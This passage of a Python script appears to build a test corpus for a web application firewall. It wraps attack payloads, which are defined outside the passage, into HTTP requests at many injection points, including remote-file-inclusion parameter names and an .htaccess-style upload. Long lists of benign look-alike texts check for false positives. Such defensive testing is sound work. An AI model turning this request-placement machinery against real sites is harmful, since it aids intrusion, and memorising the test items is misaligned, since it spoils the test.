                "headers": _headers({"Accept": "application/json"})}
    if place == "form":
        body = f"csrf_token=t0k3n&{_enc(name)}={_enc(p)}"
        return {"method": "POST", "uri": "/admin/users/search", "body": body,
                "headers": _headers({"Accept": "text/html"}, "application/x-www-form-urlencoded")}
    if place == "json":
        return {"method": "POST", "uri": "/api/users", "body": _json_body([("email", "a@example.org"), (name, p)]),
                "headers": _headers({"Accept": "application/json"}, "application/json")}
    if place == "cookie":
        value = str(p) if isinstance(p, Raw) else urllib.parse.quote(p, safe="/:=()'*!.,")
        return {**_get("/api/users?page=1"), "headers": _headers({"Cookie": f"session=9f2c1a; {name}={value}"})}
    if place.startswith("header:"):
        header = place.split(":", 1)[1]
        return {**_get("/api/users?page=1"), "headers": _headers({header: str(p)})}
    if place == "param-name":
        return {**_get(f"/api/users?{_enc(p)}=1&page=1")}
    if place == "xml":
        return {"method": "POST", "uri": "/api/users", "body": _xml_body("user", name, p),
                "headers": _headers({"Accept": "application/xml"}, "application/xml")}
    if place == "multipart-field":
        return {"method": "POST", "uri": "/admin/users/search",
                "body": _multipart([("csrf_token", "t0k3n"), (name, str(p))]),
                "headers": _headers({"Accept": "text/html"}, f"multipart/form-data; boundary={BOUNDARY}")}
    if place == "multipart-filename":
        return {"method": "POST", "uri": "/admin/users/import",
                "body": _multipart([("csrf_token", "t0k3n")], ("file", str(p), "RewriteEngine On\nfoo=bar\n")),
                "headers": _headers({"Accept": "text/html"}, f"multipart/form-data; boundary={BOUNDARY}")}
    if place == "path":
        tail = str(p) if isinstance(p, Raw) else urllib.parse.quote(p, safe="/:;=,'()*!$&@~")
        return {**_get("/api/users/" + tail.lstrip("/"))}
    raise ValueError(place)


def _rs(place: str, name: str, p: P, i: int) -> dict[str, Any]:
    """Payload p the way a WAF regression suite sends it, to a path that is not one of our routes."""
    get_path = RS_GET_PATHS[i % len(RS_GET_PATHS)]
    post_path = RS_POST_PATHS[i % len(RS_POST_PATHS)]
    bare = place.removeprefix("rs-")
    if bare == "query":
        return {"method": "GET", "uri": _qs(get_path, [(name, p)]), "body": "", "headers": _headers()}
    if bare == "form":
        return {"method": "POST", "uri": post_path, "body": f"{_enc(name)}={_enc(p)}",
                "headers": _headers(None, "application/x-www-form-urlencoded")}
    if bare == "json":
        return {"method": "POST", "uri": post_path, "body": _json_body([(name, p)]),
                "headers": _headers(None, "application/json")}
    if bare == "xml":
        return {"method": "POST", "uri": post_path, "body": _xml_body("root", name, p),
                "headers": _headers(None, "application/xml")}
    if bare == "raw-body":
        return {"method": "POST", "uri": post_path, "body": str(p),
                "headers": _headers(None, "application/x-www-form-urlencoded")}
    if bare == "cookie":
        value = str(p) if isinstance(p, Raw) else urllib.parse.quote(p, safe="/:=()'*!.,")
        return {"method": "GET", "uri": get_path, "body": "", "headers": _headers({"Cookie": f"{name}={value}"})}
    if bare.startswith("header:"):
        header = bare.split(":", 1)[1]
        return {"method": "GET", "uri": get_path, "body": "", "headers": _headers({header: str(p)})}
    if bare == "multipart-filename":
        path = ["/post", "/index.php", "/cgi-bin/test.cgi"][i % 3]
        return {"method": "POST", "uri": path, "body": _multipart([("submit", "Upload")], ("upload", str(p), "x\n")),
                "headers": _headers(None, f"multipart/form-data; boundary={BOUNDARY}")}
    raise ValueError(place)


def _pick(places: list[str], start: int, p: P) -> str:
    for k in range(len(places)):
        place = places[(start + k) % len(places)]
        if _allowed(place, p):
            return place
    raise ValueError(f"no placement for {p!r}")


def _attack(n: int, cat: str, sub: str, place: str, p: P, req: dict[str, Any]) -> dict[str, Any]:
    return {**req, "id": f"{NAME}-{cat}-{n:04d}", "category": cat, "sub": sub, "placement": place,
            "payload": str(p)}


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for t, (cat, sub, payloads, ours, rs, names) in enumerate(TITLES):
        for i, p in enumerate(payloads):
            place = _pick(ours, i + t, p)
            n += 1
            yield _attack(n, cat, sub, place, p, _ours(place, names[(i + t) % len(names)], p))
            rs_place = _pick(rs, i + 2 * t + 1, p)
            n += 1
            yield _attack(n, cat, sub, rs_place, p, _rs(rs_place, RS_NAMES[(i + t) % len(RS_NAMES)], p, i + t))
    # 931110: the parameter's name is the signal, so it keeps its name in every placement
    for i, (pname, value) in enumerate(RFI_PARAM_NAMES):
        place = OURS_RFI_NAMES[i % len(OURS_RFI_NAMES)]
        n += 1
        yield {**_attack(n, "rfi", "rfi-vulnerable-param-name", place, value, _ours(place, pname, value)),
               "payload": f"{pname}={value}"}
        rs_place = RS_RFI_NAMES[i % len(RS_RFI_NAMES)]
        n += 1
        yield {**_attack(n, "rfi", "rfi-vulnerable-param-name", rs_place, value, _rs(rs_place, pname, value, i)),
               "payload": f"{pname}={value}"}


# ---------------------------------------------------------------------------------------------------------------
# benign: the same words, typed innocently
# ---------------------------------------------------------------------------------------------------------------
SLACK_TEXTS = [
    "can someone cat the deploy log and paste the last error here?",
    "my cat knocked the laptop off the desk during standup, sorry for dropping",
    "the id of the new channel is in the pinned message",
    "whoami on the new bastion says ubuntu, is that expected?",
    "ran ls in the repo root and the build folder is gone, did someone clean it?",
    "ping me when the migration is done",
    "ping to the EU region is 38 ms from the office",
    "echo is the name of the new notification service, right?",
    "uname says 6.5 on the build agents now",
    "I'll curl the health endpoint after the deploy and share the output",
    "wget is not installed on the slim image, use curl instead",
    "python 3.12 is the default in the new base image",
    "the perl scripts in tools/ are older than most of us",
    "ruby gems cache is 2 GB, can we prune it?",
    "set up the cron job for the nightly report at 02:00",
    "the history tab in the admin shows who changed the plan",
    "anyone else see the alias for the staging db change?",
    "we use an alias for the support inbox: help@ the domain",
    "powershell is what the Windows team uses for the AD scripts",
    "the Windows build agents run PowerShell 7 now",
    "for each customer we send one invoice, if the plan is annual",
    "if the tests pass, for once, we ship today",
    "the for loop in the exporter is O(n^2), fix in progress",
    "please don't store secrets in .env files in the repo, use the vault",
    "the .gitignore now excludes node_modules and dist",
    "the web.config in the legacy IIS app still has the old rewrite rules",
    "our nginx config lives in the ops repo, not here",
    "the passwd reset flow sends an email with a one-time link",
    "the etc. at the end of the sentence is fine, keep it",
    "bin day is Thursday at the office, take the recycling out",
    "the sh script in scripts/ sets up the local db",
    "bash completion for our CLI is in the docs now",
    "zsh users: source the completion file in your rc",
    "the shell in the new terminal app is fish by default",
    "the system status page is green again",
    "net revenue for Q2 is up 12%",
    "net user count passed 40k this morning",
    "the user type dropdown has admin, member and guest",
    "type the ticket number in the subject line please",
    "dir of the uploads is on the NAS, share \\\\nas01\\uploads for the Windows folks",
    "copy the template from the wiki before editing",
    "del key on my keyboard is broken, typing is hard",
    "the tasklist for the sprint is in Jira",
    "systeminfo from the broken laptop is attached to the IT ticket",
    "ipconfig shows the VPN adapter, so the tunnel is up",
    "certutil warnings on the Windows agent are about an expired intermediate",
    "reg edits need approval from IT",
    "the SQLite file for local dev is in data/dev.db",
    "sqlite3 has a .tables command, handy for a quick look",
    "the mail server rejected the batch, RCPT limit per hour",
    "IMAP sync in the support tool is back",
    "POP3 is disabled on the tenant, use IMAP or the API",
    "the SMTP relay moved to port 587",
    "send the HELO banner of the relay if you need help",
    "the data export is in the shared drive under exports/2024",
    "the include list for the linter is in pyproject.toml",
    "page 3 of the report has the charts",
    "the template for release notes is in the handbook",
    "the file picker accepts pdf, docx and png",
    "path of least resistance: just restart the worker",
    "the URL for the staging app changed, see the channel topic",
    "we link to https://docs.python.org from the style guide",
    "the old wiki page http://intranet/wiki/Onboarding still works",
    "the IP of the office printer is 10.20.0.15",
    "our status page is at https://status.example.com?",
    "is the demo at https://demo.example.com/ still up?",
    "the ftp server is being retired next month",
    "which module owns the billing webhooks?",
    "the root cause was a missing index, fixed",
    "the config path for the agent is documented in the README",
    "the lang parameter switches the UI to French",
    "the host name of the db replica changed last night",
    "we ran 3 commands and the cluster came back",
    "the shell shock of moving offices is real",
    "the function keys on the new keyboards are tiny",
    "use () => {} for callbacks in the new code",
    "the regex (a|b) matches either letter",
    "yes or no: lunch at 12:30?",
    "ed from the design team sent the new mockups",
    "w is the shortcut for the week view in the calendar",
    "su-chef at the canteen made curry today",
    "vi or emacs? the eternal debate continues in #random",
    "df shows 80% on the log volume, rotating now",
    "du -sh of the media folder says 120G",
    "ps: the retro is moved to Thursday",
    "the kill switch for the feature flag is in LaunchDarkly",
    "the env vars for the worker are in the helm chart",
    "sudo access to prod is through the break-glass process",
    "git clone takes forever on the VPN",
    "touch base with legal about the DPA",
    "head of sales joins the call at 3",
    "the tail of the queue is still long, workers are scaling up",
    "nc is the abbreviation for North Carolina in the address form",
    "find the onboarding checklist in the handbook",
    "chmod on the mounted volume is not allowed, that's by design",
    "the awk one-liner in the runbook is gone, replaced with a python script",
    "base64 decoding happens in the client, not the server",
    "the sleep timer on the meeting room display is 10 minutes",
    "nslookup from the office resolves to the old IP, DNS cache probably",
    "the netstat output shows the port is listening",
    "the ifconfig command is deprecated, use ip addr",
    "the crontab entry runs every 15 minutes",
    "invoke the webhook manually with the replay button",
    "Get-ChildItem is the PowerShell equivalent of ls",
    "Start-Process opens the installer as admin",
    "the New-Object syntax in PowerShell looks odd at first",
    "I reset the execution policy on my own laptop only",
    "the wmic tool is deprecated on Windows 11",
    "bitsadmin is replaced by PowerShell's BITS cmdlets",
    "schtasks has the nightly backup on the file server",
    "mshta popups are blocked by the new GPO",
    "regsvr32 registered the Outlook add-in fine",
    "the Windows_NT folder has nothing useful for us",
    "the %PATH% variable on Windows agents is too long",
    "the ~/.bashrc trick for the prompt is in my dotfiles repo",
    "the readme says to copy .env.example to .env before the first run",
    "the .htaccess rules moved to the nginx config years ago",
    "the .git folder was accidentally copied into the Docker image, fixed in the Dockerfile",
    "the WEB-INF folder of the Java app holds the servlet config",
    "the DS_Store files keep showing up in PRs from Macs",
    "the id_rsa key of the deploy user was rotated",
    "the authorized keys list for the bastion is in Terraform",
    "shadow IT is a real problem, please use approved tools",
    "the environ module in the config loader reads the environment",
    "the boot time of the new laptops is 8 seconds",
    "the win rate on enterprise deals improved",
    "the SAM team (sales account managers) meets on Monday",
    "hosts for the offsite: Maria and Kenji",
    "the group photo from the offsite is in the drive",
    "the access log retention is 30 days",
    "the php.ini on the legacy host has a 64M upload limit",
    "global.asa is from the classic ASP days, nobody touches it",
    "config.yml for the local setup is generated by make init",
    "upload the user.ini example to the wiki, not the server",
    "...and that's why we test on staging first",
    "wait... the build passed?",
    "the .../ menu in the editor has the export option",
    "Q: why is the ../ in the docs link broken? A: relative links, fixed",
    "!! important: code freeze starts Friday",
    "history of the project is on the about page",
    "alias: JR is Jamie Rivera, same person",
    "shellshock was in 2014, our images are far newer",
    "the pipe | in the table broke the markdown rendering",
    "A && B in the spec means both conditions must hold",
    "we pay 5 $ per seat, so $(seats * 5) a month",
    "the `id` column is a UUID now",
    "the `cat` and `dog` enums are in the pet store example",
    "use `ls -la` to see hidden files if you're on a Mac",
    "for the record, I like tabs",
    "if anyone needs the VPN profile, DM me",
    "set the tokens field to 500 in the request",
    "the do-not-disturb hours are 20:00-08:00",
    "the echo in the big meeting room is awful",
    "type C is the only port on the new laptops",
    "the copy for the landing page is final",
    "the system tray icon disappeared after the update",
    "the exec team offsite is in Lisbon",
    "the cmd key on the Mac is where ctrl is on Windows",
    "the net promoter score came back at 54",
    "the query string has page and per_page",
]

BIOS_EXTRA = [
    "I'm a sysadmin who loves bash, cats and long walks",
    "Windows admin, PowerShell fan, part-time baker",
    "I write the for loops nobody else wants to touch",
    "Linux user since Slackware, still typing ls by reflex",
]

PUBLIC_URLS = [
    "https://www.gnu.org/software/bash/manual/bash.html",
    "https://learn.microsoft.com/en-us/powershell/scripting/overview",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/for",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/if",
    "https://man7.org/linux/man-pages/man5/passwd.5.html",
    "https://man7.org/linux/man-pages/man1/cat.1.html",
    "https://www.sqlite.org/cli.html",
    "https://datatracker.ietf.org/doc/html/rfc5321",
    "https://datatracker.ietf.org/doc/html/rfc3501",
    "https://datatracker.ietf.org/doc/html/rfc1939",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://owasp.org/www-community/attacks/Command_Injection",
    "https://en.wikipedia.org/wiki/Shellshock_(software_bug)",
    "https://httpd.apache.org/docs/2.4/howto/htaccess.html",
    "https://git-scm.com/docs/git-config",
    "https://12factor.net/config",
    "https://www.php.net/manual/en/ini.list.php",
    "https://docs.github.com/en/get-started/getting-started-with-git/ignoring-files",
    "https://example.com/downloads/setup.exe",
    "https://example.org/files/report-2024.pdf?download=1",
    "https://cdn.example.net/img/avatar.png",
    "https://files.example.com/share/abc123",
    "https://203.0.113.10/status",
    "https://status.example.com/",
    "https://www.example.com/search?q=shell+scripting",
    "https://docs.example.com/guide/../faq",
    "https://api.example.com/v2/items?page=2&per_page=50",
    "ftp://ftp.example.org/pub/readme.txt",
    "https://github.com/example/dotfiles/blob/main/.bashrc",
    "https://github.com/example/app/blob/main/.env.example",
    "https://github.com/example/app/tree/main/bin",
    "https://stackoverflow.com/questions/tagged/powershell",
    "https://news.example.com/2024/05/how-we-use-cron",
    "https://blog.example.com/posts/for-loops-in-batch-files",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://maps.example.com/?q=10+Downing+Street",
    "https://example.com/",
    "https://example.com/?",
    "https://wiki.example.org/index.php?title=Main_Page",
    "https://shop.example.com/cat/toys?sort=price",
    "https://example.com/blog/cat-pictures",
    "https://linux.die.net/man/1/id",
    "https://learn.microsoft.com/en-us/iis/configuration/system.webserver/",
    "https://tomcat.apache.org/tomcat-10.1-doc/appdev/deployment.html",
    "https://nodejs.org/api/path.html",
    "https://docs.python.org/3/library/os.path.html",
    "https://example.com/files/etc/report.csv",
    "https://images.example.com/bin/photo.jpg",
    "https://support.example.com/kb/reset-your-password",
    "https://www.example.com/en-us/sh/store",
]

PROSE = [
    "Please cat-proof the server room door",
    "Our Id and ego workshop starts at 10",
    "Cat food delivery: 2 bags, address on file",
    "Request: type the address exactly as on the passport",
    "For all orders over 50 EUR, shipping is free; if not, 4.90 EUR",
    "If exists, use the billing address; for others, the shipping address",
    "Set the tokens to 1000 and do the test again",
    "echo chamber effects in social media, a study",
    "system administrators appreciation day party",
    "net income vs gross income explained",
    "whoami: a book about identity",
    "Shell Oil station at the corner of 5th and Main",
    "the bash at the office on Friday was great",
    "powershell training for the helpdesk team",
    "Windows 11 upgrade schedule for the finance team",
    "wget and curl comparison for the training deck",
    "root cause analysis template",
    "environment variables in the staging cluster",
    "history of the company, 1998 to today",
    "alias names for vendors in the ERP",
    "invoice for 3 cats grooming, paid",
    "etc/passwd was a joke in the security training slides",
    "passwords must be 12 characters or more",
    "home directory quotas are 10 GB",
    "bin collection schedule for the building",
    "usr group meeting minutes",
    "proc nomenclature in the lab notebook",
    "var names in the style guide",
    "the Ping Pong tournament bracket",
    "sleep study results, night 2",
    "find my order number",
    "touch screen kiosk in the lobby is broken",
    "head office address change",
    "tail end of the quarter push",
    "kill the meeting if nobody shows up",
    "python course for beginners, spring term",
    "Ruby's birthday cake order",
    "Perl Jam tickets for the team",
    "Java and coffee cart on floor 3",
    "nc state university alumni",
    "df schenker shipping label",
    "du pont paint order",
    "ps audio cable for the conference room",
    "w hotel booking for the offsite",
    "sh 2023 annual report",
    "IF you can read this, the printer works",
    "FOR SALE: office chairs, good condition",
    "DO NOT DISTURB sign for room 4",
    "type: full-time, location: remote",
    "copy of the lease agreement",
    "del Rey, Lana - concert tickets",
    "Del Mar office address",
    "Dir. of Operations: Priya Natarajan",
    "Ren & Stimpy themed party",
    "Mail from: the bank, subject: new statement",
    "RCPT is short for receipt in the accounting export",
    "DATA team standup notes",
    "HELO is not a typo, it's the SMTP greeting, per the ops wiki",
    "the LIST of attendees is final",
    "RETR is short for retroactive in the payroll codes",
    "QUIT smoking program, HR benefits",
    "STAT holiday schedule for Canada",
    "SELECT committee notes",
    "FETCH the latest version from the portal",
    "the .system file in the old CAD package",
    ".load and .save in the legacy game menu",
    "we read .shell magazine for the marine biology team",
    "...and the winner is Team Blue",
    "Q3 report ... pending review",
    "the .... was a typo, ignore it",
    "A/B test results: B wins",
    "(c) 2024 Example Corp. All rights reserved.",
    "price: $(USD) 25",
    "the ${name} placeholder in the email template is filled by the CRM",
    "use the `cat` command only in the training VM",
    "Windows & Mac support for the new app",
    "R&D | Marketing | Sales",
    "Tom & Jerry screening in the lounge",
    "Q&A session after the talk",
    "Johnson & Johnson vendor account",
    "AT&T bill for the office lines",
    "Procter & Gamble account review",
    "the 2 && 3 bedroom listings",
    "bread; milk; eggs; cat litter",
    "pipes | valves | fittings order",
    "status: done; owner: Lee",
    "room 101; building B",
    "contact: hr@example.com; phone 555-0100",
    "who am I to judge",
    "id card replacement request",
    "ls = left side in the seating chart",
    "the cmd + shift + 4 shortcut for screenshots",
    "net 30 payment terms",
    "sc johnson cleaning supplies order",
    "the reg office address for the company",
]

SEARCHES = [
    "cat", "cat food", "id card", "whoami book", "bash party", "shell station", "powershell course",
    "windows 11", "for loop", "if statement", "passwd reset", "password reset", "etc", "bin day", "ping pong",
    "sleep study", "echo dot", "python", "perl necklace", "ruby ring", "nc state", "sh 2023", "history",
    "alias", "env", "root beer", "tail light", "head phones", "find my phone", "touch screen", "kill bill",
    "net worth", "type c cable", "copy paper", "del taco", "dir of ops", "systeminfo", "tasklist",
    "sqlite", "smtp relay", "imap settings", "pop3", "mail from", "helo", "data team", "list of users",
    "retr", "quit", "stat holiday", ".env", "web config", "htaccess", "git config", "ds store",
    "../docs", "...", "a & b", "r&d", "q&a", "tom & jerry", "at&t", "$5", "$(price)", "`code`",
    "(draft)", "{name}", "[beta]", "c:\\users", "/home", "/usr", "/var", "/tmp files", "boot camp",
    "win rate", "sam account", "hosts", "group chat", "access log", "shadow", "environ", "proc",
]

NAMES_ADDRESSES = [
    ("Catherine Idris", "12 Bash Lane, Shelton, CT"),
    ("Ping Wu", "Room 101; Building B, 5 Echo Park Ave"),
    ("Perl Ruby Jones", "7 Python Way, Rubyville"),
    ("Ed Su", "3 Vi Street, Du Bois, PA"),
    ("Sh. Kumar", "Flat 2, 44 Net Road, Pune"),
    ("Sam Curl", "1 Wget Close, Bath"),
    ("Dir Hassan", "88 Type Avenue, Copy Town"),
    ("W. Tail", "9 Head Street & Main, Springfield"),
    ("Alias Grace", "21 History Row, Kingston"),
    ("Windows Morgan", "16 Powers Hell Road, Cork"),
    ("Johnson & Sons", "100 Trade Way, Suite #4"),
    ("O'Neil, Patrick", "4/7 Queen's Road, Sydney"),
    ("Id Tran", "Apt. 3-B, 250 Etc. Boulevard"),
    ("Bin Li", "6 Usr Lane, Var, France"),
    ("Proc Dalton", "10 Environ Close, Leeds"),
    ("Shadow Blake", "2 Group Court, Hosts Hill"),
    ("Find Larsen", "Touch 1, 8000 Aarhus"),
    ("Kill Devil Hills Shop", "1 Beach Road, Kill Devil Hills, NC"),
    ("Fiona Del Mar", "55 Del Rey Blvd, Marina del Rey, CA"),
    ("Echo Ross", "18 Sleep Lane, Dormer"),
    ("Env Pham", "12 Root Street, Hanoi"),
    ("Dana Cat", "3 Pipe | Fittings Ln, Austin"),
    ("Lee Sc", "2 Reg Square, Dublin"),
    ("Stat Olsen", "Postbox 11, Quit Harbor"),
    ("Mail Fromm", "Data Street 4, Helo, NO"),
    ("Retr Vogel", "List Strasse 9, Berlin"),
    ("Sys Tem Ltd", "Unit 5, 77 Shell Way, Aberdeen"),
    ("Net Jansen", "Amstel 1, Amsterdam"),
    ("Powell Shelley", "12 Windows Drive, Redmond, WA"),
    ("Bash Amir", "19 For Street, If, Norway"),
]

FILE_NAMES = [
    "report-q2.pdf", "invoice 2024-05.docx", "cat.jpg", "my_id_scan.png", "team photo (offsite).jpeg",
    "notes.txt", "budget_v3.xlsx", "slides - final FINAL.pptx", "env-diagram.svg", "bash-cheatsheet.pdf",
    "powershell-training.pdf", "web-config-guide.pdf", "history_essay.docx", "passwd-policy.pdf",
    "etc-receipts.zip", "bin-schedule.png", "shell-logo.ai", "readme.md", "config-example.json",
    "hosts-list.csv", "group-chat-export.txt", "access-log-summary.pdf", "htaccess-notes.txt",
    "dotenv-explainer.pdf", "for-loops.pdf", "if-else.png", "ping-results.csv", "whoami.mp3",
    "sqlite-tutorial.pdf", "smtp-settings.png",
]

SLASH_COMMANDS = [
    ("/deploy", "api to staging"), ("/deploy", "worker --dry-run"), ("/ping", ""), ("/whoami", ""),
    ("/status", "eu-west"), ("/remind", "me to cat the logs at 5pm"), ("/poll", "\"Lunch?\" \"Yes\" \"No\""),
    ("/history", "last 10"), ("/alias", "add jr Jamie Rivera"), ("/env", "staging"), ("/run", "smoke tests"),
    ("/find", "onboarding doc"), ("/ticket", "printer on floor 2 & 3 is out of toner"),
    ("/giphy", "cat typing"), ("/shrug", "the build is red again"), ("/for", "each team: post updates"),
    ("/if", "it rains, standup is remote"), ("/type", "meeting notes"), ("/echo", "hello team"),
    ("/weather", "Lisbon"), ("/define", "shellshock"), ("/lookup", "10.20.0.15"), ("/mail", "from: hr"),
    ("/sqlite", "tables"), ("/powershell", "help"), ("/bash", "tips"), ("/id", "U012345678"),
    ("/who", "is on call"), ("/list", "open incidents"), ("/stat", "uptime"),
]


def _search(text: str) -> dict[str, Any]:
    return _get(_query("/api/users", [("q", text), ("page", "1")]))


def _profile(name: str, address: str) -> dict[str, Any]:
    return _json("/api/users", {"name": name, "address": address, "email": "user@example.org"})


def _file_meta(filename: str) -> dict[str, Any]:
    return _json("/api/users/42", {"attachment": {"filename": filename, "content_type": "application/octet-stream",
                                                   "size": 1024 + len(filename)}})


def _admin_form(name: str, address: str) -> dict[str, Any]:
    return _form("/admin/users/search", [("csrf_token", "t0k3n"), ("display_name", name), ("address", address)])


def _slash(command: str, text: str, n: int) -> dict[str, Any]:
    fields = [("token", "verification-token"), ("team_id", "T061EG9R6"), ("team_domain", "acme"),
              ("channel_id", "C0123456789"), ("channel_name", "general"), ("user_id", "U012345678"),
              ("user_name", "ann"), ("command", command), ("text", text), ("api_app_id", "A0PNCHHK2"),
              ("response_url", f"https://hooks.slack.com/commands/T061EG9R6/{1000 + n}/abcDEF{n}"),
              ("trigger_id", f"{1000 + n}.{2000 + n}.abcdef{n}")]
    return {"method": "POST", "uri": "/slack/commands", "body": urllib.parse.urlencode(fields),
            "headers": {"User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)",
                        "Content-Type": "application/x-www-form-urlencoded", "X-Slack-Request-Timestamp": "1719000000",
                        "X-Slack-Signature": "v0=" + "0" * 64}}


def _multipart_upload(filename: str) -> dict[str, Any]:
    body = _multipart([("csrf_token", "t0k3n"), ("description", "attached as requested")],
                      ("file", filename, "plain text content\n"))
    return {"method": "POST", "uri": "/admin/users/import", "body": body,
            "headers": _headers({"Accept": "text/html"}, f"multipart/form-data; boundary={BOUNDARY}")}


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS + BIOS_EXTRA, NAME)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, NAME, n)
    n = yield from numbered((_search(s) for s in SEARCHES), f"{NAME}-search", n, "query")
    n = yield from numbered((_profile(a, b) for a, b in NAMES_ADDRESSES), f"{NAME}-name", n, "json")
    n = yield from numbered((_admin_form(a, b) for a, b in NAMES_ADDRESSES), f"{NAME}-address", n, "form")
    n = yield from numbered((_file_meta(f) for f in FILE_NAMES), f"{NAME}-file", n, "json")
    n = yield from numbered((_multipart_upload(f) for f in FILE_NAMES), f"{NAME}-upload", n, "multipart-filename")
    yield from numbered((_slash(c, t, i) for i, (c, t) in enumerate(SLASH_COMMANDS)), f"{NAME}-command", n, "form")


if __name__ == "__main__":
    print_records(attacks(), benign())
